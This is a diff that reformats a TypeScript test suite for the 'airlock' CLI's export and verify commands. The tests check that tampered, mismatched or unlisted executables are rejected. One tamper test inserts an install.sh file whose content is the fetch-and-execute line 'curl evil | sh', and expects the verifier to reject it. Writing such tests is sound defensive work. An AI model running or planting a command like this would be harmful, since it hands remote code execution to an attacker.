@@ -34,28 +34,62 @@ function airlock(...args: string[]) {
 function makeDir(dir: string, files: Record<string, Buffer>, sums = true): string {
   mkdirSync(dir, {recursive: true})
   for (const [n, b] of Object.entries(files)) writeFileSync(join(dir, n), b, {mode: 0o755})
-  if (sums) writeFileSync(join(dir, 'SHA256SUMS'), Object.keys(files).filter((n) => !n.endsWith('.json')).sort().map((n) => `${hex(files[n]!)}  ${n}\n`).join(''))
+  if (sums)
+    writeFileSync(
+      join(dir, 'SHA256SUMS'),
+      Object.keys(files)
+        .filter(n => !n.endsWith('.json'))
+        .sort()
+        .map(n => `${hex(files[n]!)}  ${n}\n`)
+        .join(''),
+    )
   return dir
 }
 
 const amd64 = fakeElf(62, 'amd64 executable ')
 const arm64 = fakeElf(183, 'arm64 executable ')
-const bundle = Buffer.from(JSON.stringify({mediaType: 'application/vnd.dev.sigstore.bundle+json;version=0.2', note: 'a bundle as the build writes it'}))
+const bundle = Buffer.from(
+  JSON.stringify({
+    mediaType: 'application/vnd.dev.sigstore.bundle+json;version=0.2',
+    note: 'a bundle as the build writes it',
+  }),
+)
 const source = `oci:${join(work, 'layout')}:example.com/test/single:1.0`
 
 before(async () => {
-  if (!existsSync(join(ROOT, 'dist/commands/export.js'))) spawnSync('npm', ['run', 'build'], {cwd: ROOT, stdio: 'ignore'})
+  if (!existsSync(join(ROOT, 'dist/commands/export.js')))
+    spawnSync('npm', ['run', 'build'], {cwd: ROOT, stdio: 'ignore'})
   await standardLayout(join(work, 'layout'))
 })
 after(() => rmSync(work, {recursive: true, force: true}))
 
 describe('export --include-airlock', () => {
-  const good = makeDir(join(work, 'good'), {[name('amd64')]: amd64, [name('arm64')]: arm64, [`${name('amd64')}.sigstore.json`]: bundle})
+  const good = makeDir(join(work, 'good'), {
+    [name('amd64')]: amd64,
+    [name('arm64')]: arm64,
+    [`${name('amd64')}.sigstore.json`]: bundle,
+  })
 
   it('carries both executables (and the bundle next to one) under airlock/; inspect lists them; verify checks them', () => {
-    const r = airlock('export', '--no-tuf', '--signatures', 'skip', '-o', 'with-airlock.tar', '--include-airlock', '--airlock-dir', good, source)
+    const r = airlock(
+      'export',
+      '--no-tuf',
+      '--signatures',
+      'skip',
+      '-o',
+      'with-airlock.tar',
+      '--include-airlock',
+      '--airlock-dir',
+      good,
+      source,
+    )
     assert.equal(r.status, 0, r.stderr)
-    assert.match(r.stderr, new RegExp(`carrying airlock/${name('amd64')} \\(${amd64.length} bytes, sha256:${hex(amd64)}\\) and its Sigstore bundle`))
+    assert.match(
+      r.stderr,
+      new RegExp(
+        `carrying airlock/${name('amd64')} \\(${amd64.length} bytes, sha256:${hex(amd64)}\\) and its Sigstore bundle`,
+      ),
+    )
     const archive = Archive.parse(readFileSync(join(work, 'with-airlock.tar')))
     assert.deepEqual(archive.get(`airlock/${name('amd64')}`), amd64)
     assert.deepEqual(archive.get(`airlock/${name('arm64')}`), arm64)
@@ -75,16 +109,44 @@ describe('export --include-airlock', () => {
   })
 
   it('--airlock-platform carries only the named one', () => {
-    const r = airlock('export', '--no-tuf', '--signatures', 'skip', '-o', 'amd64-only.tar', '--include-airlock', '--airlock-dir', good, '--airlock-platform', 'amd64', source)
+    const r = airlock(
+      'export',
+      '--no-tuf',
+      '--signatures',
+      'skip',
+      '-o',
+      'amd64-only.tar',
+      '--include-airlock',
+      '--airlock-dir',
+      good,
+      '--airlock-platform',
+      'amd64',
+      source,
+    )
     assert.equal(r.status, 0, r.stderr)
-    const names = Archive.parse(readFileSync(join(work, 'amd64-only.tar'))).entries.map((e) => String(e.name)).filter((n) => n.startsWith('airlock/'))
+    const names = Archive.parse(readFileSync(join(work, 'amd64-only.tar')))
+      .entries.map(e => String(e.name))
+      .filter(n => n.startsWith('airlock/'))
     assert.deepEqual(names.sort(), [`airlock/${name('amd64')}`, `airlock/${name('amd64')}.sigstore.json`])
   })
 
   const refuse = (label: string, dir: string, expected: RegExp) =>
     it(`refuses before any download: ${label}`, () => {
       // the source is a registry nobody listens on: reaching it would be a network error, not this one
-      const r = airlock('export', '127.0.0.1:9/x/y:1', '--no-tuf', '--signatures', 'skip', '-o', 'refused.tar', '--include-airlock', '--airlock-dir', dir, '--insecure-registry', '127.0.0.1:9')
+      const r = airlock(
+        'export',
+        '127.0.0.1:9/x/y:1',
+        '--no-tuf',
+        '--signatures',
+        'skip',
+        '-o',
+        'refused.tar',
+        '--include-airlock',
+        '--airlock-dir',
+        dir,
+        '--insecure-registry',
+        '127.0.0.1:9',
+      )
       assert.notEqual(r.status, 0)
       const lines = r.stderr.trim().split('\n')
       assert.match(lines[0]!, expected)
@@ -92,18 +154,34 @@ describe('export --include-airlock', () => {
       assert.doesNotMatch(r.stderr, /ECONNREFUSED|NETWORK/)
       assert.equal(existsSync(join(work, 'refused.tar')), false)
     })
-  refuse('a missing platform executable', makeDir(join(work, 'only-amd64'), {[name('amd64')]: amd64}), new RegExp(`^airlock: error: --include-airlock: no arm64 executable ${name('arm64')} in `))
-  refuse('a damaged copy (SHA256SUMS differs)', (() => {
-    const dir = makeDir(join(work, 'damaged'), {[name('amd64')]: amd64, [name('arm64')]: arm64})
-    writeFileSync(join(dir, name('arm64')), fakeElf(183, 'ARM64 executable '))
-    return dir
-  })(), /^airlock: error: --include-airlock: .* has sha256 [0-9a-f]{64}, SHA256SUMS says [0-9a-f]{64} \(a damaged copy\?\)/)
-  refuse('an executable for the wrong platform', makeDir(join(work, 'swapped'), {[name('amd64')]: arm64, [name('arm64')]: amd64}), /is not a linux\/amd64 ELF executable/)
-  refuse('a file SHA256SUMS does not list', (() => {
-    const dir = makeDir(join(work, 'unlisted'), {[name('amd64')]: amd64})
-    writeFileSync(join(dir, name('arm64')), arm64)
-    return dir
-  })(), new RegExp(`${name('arm64')} is not listed in`))
+  refuse(
+    'a missing platform executable',
+    makeDir(join(work, 'only-amd64'), {[name('amd64')]: amd64}),
+    new RegExp(`^airlock: error: --include-airlock: no arm64 executable ${name('arm64')} in `),
+  )
+  refuse(
+    'a damaged copy (SHA256SUMS differs)',
+    (() => {
+      const dir = makeDir(join(work, 'damaged'), {[name('amd64')]: amd64, [name('arm64')]: arm64})
+      writeFileSync(join(dir, name('arm64')), fakeElf(183, 'ARM64 executable '))
+      return dir
+    })(),
+    /^airlock: error: --include-airlock: .* has sha256 [0-9a-f]{64}, SHA256SUMS says [0-9a-f]{64} \(a damaged copy\?\)/,
+  )
+  refuse(
+    'an executable for the wrong platform',
+    makeDir(join(work, 'swapped'), {[name('amd64')]: arm64, [name('arm64')]: amd64}),
+    /is not a linux\/amd64 ELF executable/,
+  )
+  refuse(
+    'a file SHA256SUMS does not list',
+    (() => {
+      const dir = makeDir(join(work, 'unlisted'), {[name('amd64')]: amd64})
+      writeFileSync(join(dir, name('arm64')), arm64)
+      return dir
+    })(),
+    new RegExp(`${name('arm64')} is not listed in`),
+  )
 
   it('refuses without --airlock-dir when airlock is not the single-file executable', () => {
     const r = airlock('export', '--no-tuf', '-o', 'refused.tar', '--include-airlock', source)
@@ -133,16 +211,40 @@ describe('verify accepts exactly the airlock executables under airlock/', () => 
     doc.files[path] = {digest: `sha256:${hex(body)}`, size: body.length}
     a.set('airlock.json', Buffer.from(JSON.stringify(doc)))
   }
-  attack('another file under airlock/, listed in airlock.json', (a) => listFile(a, 'airlock/install.sh', Buffer.from('curl evil | sh\n')), /airlock\/install\.sh.*only airlock executables/)
-  attack('an executable name for another OS', (a) => listFile(a, `airlock/airlock-${VERSION}-darwin-arm64`, amd64), /only airlock executables/)
-  attack('a nested path under the executable name', (a) => listFile(a, `airlock/${name('amd64')}/x`, amd64), /only airlock executables/)
-  attack('an executable that airlock.json does not list', (a) => {
-    a.set(`airlock/airlock-9.9.9-linux-amd64`, amd64)
-  }, /unexpected entry airlock\/airlock-9\.9\.9-linux-amd64: not listed in airlock\.json/)
-  attack('an executable whose bytes differ from airlock.json', (a) => {
-    a.set(`airlock/${name('arm64')}`, fakeElf(183, 'swapped payload! '))
-  }, new RegExp(`airlock/${name('arm64')} does not match airlock\\.json`))
-  attack('a listed executable that is missing', (a) => {
-    a.remove(`airlock/${name('amd64')}`)
-  }, new RegExp(`airlock/${name('amd64')} is listed in airlock\\.json but missing`))
+  attack(
+    'another file under airlock/, listed in airlock.json',
+    a => listFile(a, 'airlock/install.sh', Buffer.from('curl evil | sh\n')),
+    /airlock\/install\.sh.*only airlock executables/,
+  )
+  attack(
+    'an executable name for another OS',
+    a => listFile(a, `airlock/airlock-${VERSION}-darwin-arm64`, amd64),
+    /only airlock executables/,
+  )
+  attack(
+    'a nested path under the executable name',
+    a => listFile(a, `airlock/${name('amd64')}/x`, amd64),
+    /only airlock executables/,
+  )
+  attack(
+    'an executable that airlock.json does not list',
+    a => {
+      a.set(`airlock/airlock-9.9.9-linux-amd64`, amd64)
+    },
+    /unexpected entry airlock\/airlock-9\.9\.9-linux-amd64: not listed in airlock\.json/,
+  )
+  attack(
+    'an executable whose bytes differ from airlock.json',
+    a => {
+      a.set(`airlock/${name('arm64')}`, fakeElf(183, 'swapped payload! '))
+    },
+    new RegExp(`airlock/${name('arm64')} does not match airlock\\.json`),
+  )
+  attack(
+    'a listed executable that is missing',
+    a => {
+      a.remove(`airlock/${name('amd64')}`)
+    },
+    new RegExp(`airlock/${name('amd64')} is listed in airlock\\.json but missing`),
+  )
 })
